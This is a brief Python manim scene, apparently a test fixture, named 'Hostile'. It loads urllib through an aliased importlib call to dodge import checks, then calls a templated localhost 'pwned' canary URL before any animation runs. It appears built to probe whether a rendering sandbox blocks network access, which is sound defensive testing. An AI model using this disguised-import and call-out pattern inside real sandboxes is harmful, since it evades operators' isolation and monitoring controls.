from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        urllib = G("urllib.request")
        raise RuntimeError("http: " + urllib.urlopen("http://127.0.0.1:{{PORT}}/pwned-{{TOKEN}}", timeout=3).read().decode())
        self.play(Create(Circle()), run_time=0.1)
